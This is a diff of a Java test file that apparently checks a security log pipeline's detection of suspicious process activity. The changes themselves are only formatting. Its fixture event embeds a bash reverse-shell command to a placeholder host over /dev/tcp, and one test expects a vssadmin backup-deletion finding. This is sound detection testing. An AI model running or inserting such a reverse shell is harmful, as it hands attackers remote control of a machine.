@@ -76,7 +76,8 @@ final class RealClientsTest {
         <Channel>Linux-Sysmon/Operational</Channel><Computer>%2$s</Computer></System><EventData>\
         <Data Name="ProcessId">101</Data><Data Name="Image">/bin/bash</Data>\
         <Data Name="CommandLine">bash -c "bash -i &gt;&amp; /dev/tcp/%3$s/443 0&gt;&amp;1"</Data>\
-        <Data Name="User">www-data</Data></EventData></Event>"""
+        <Data Name="User">www-data</Data></EventData></Event>\
+        """
             .formatted(now, host, address);
     lines.add("<14>1 %s %s sysmon 77 - - %s".formatted(now, host, event));
     return lines;
@@ -97,8 +98,7 @@ final class RealClientsTest {
   /// @param acknowledged when the last of them was, as a time of {@link System#nanoTime}
   private static void assertFound(String what, String host, long acknowledged) throws Exception {
     String question = "\"of " + host + " number\" | head " + 2 * LINES;
-    String answer =
-        onlooker.awaitAnswer(question, seen -> numbers(seen).size() == LINES);
+    String answer = onlooker.awaitAnswer(question, seen -> numbers(seen).size() == LINES);
     double seconds = Math.max(0, System.nanoTime() - acknowledged) / 1e9;
     assertThat(answer.lines().filter(line -> line.startsWith("{\"event\"")))
         .as("each line once")
@@ -188,7 +188,8 @@ final class RealClientsTest {
     assertThat(said).contains("acknowledged " + (LINES + 1) + " failed 0");
     assertFound("elasticsearch-js " + ElasticsearchClient.VERSION, "host-js", taken);
     assertFinding("Suspicious Removal of Backups and Recovery Options", "host-js");
-    assertThat(onlooker.hunt("source=windows.sysmon class=process_activity device.hostname=host-js"))
+    assertThat(
+            onlooker.hunt("source=windows.sysmon class=process_activity device.hostname=host-js"))
         .contains("vssadmin");
   }
 }
